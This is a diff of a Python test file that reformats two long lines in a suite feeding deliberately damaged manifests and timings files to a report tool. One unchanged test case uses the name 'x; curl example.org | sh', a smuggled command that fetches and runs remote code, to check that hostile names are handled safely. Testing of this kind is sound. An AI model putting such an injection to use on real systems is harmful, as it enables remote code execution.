@@ -250,7 +250,9 @@ MANIFESTS: dict[str, Callable[[bytes], bytes]] = {
     "a name that is a path": _renamed("/tmp"),
     "a name to type": _renamed("x; curl example.org | sh"),
     "twice": lambda data: data.replace(b'"format": 1', b'"format": 1, "format": 1'),
-    "a number of 5,000 digits": lambda data: data.replace(b'"format": 1', b'"format": ' + b"9" * 5000),
+    "a number of 5,000 digits": lambda data: data.replace(
+        b'"format": 1', b'"format": ' + b"9" * 5000
+    ),
     "NaN": lambda data: data.replace(b'"format": 1', b'"format": NaN'),
     "not UTF-8": lambda data: b"\xff" + data,
     "truncated": lambda data: data[: len(data) // 2],
@@ -320,7 +322,9 @@ def test_other_damage_is_named_and_made_anew(
     assert (folder / "report.html").read_bytes() == (made.folder / "report.html").read_bytes()
 
 
-@pytest.mark.parametrize("data", [b"", b"1,2\n", b"\xff\xff", b"walks,0,0,3,x,y\n", b"a\n" * 3, b"\0,"])
+@pytest.mark.parametrize(
+    "data", [b"", b"1,2\n", b"\xff\xff", b"walks,0,0,3,x,y\n", b"a\n" * 3, b"\0,"]
+)
 def test_timings_say_nothing_of_rows(data: bytes, folder: Path) -> None:
     (folder / "timings.csv").write_bytes(data)
     assert "Traceback" not in looked_at(folder)
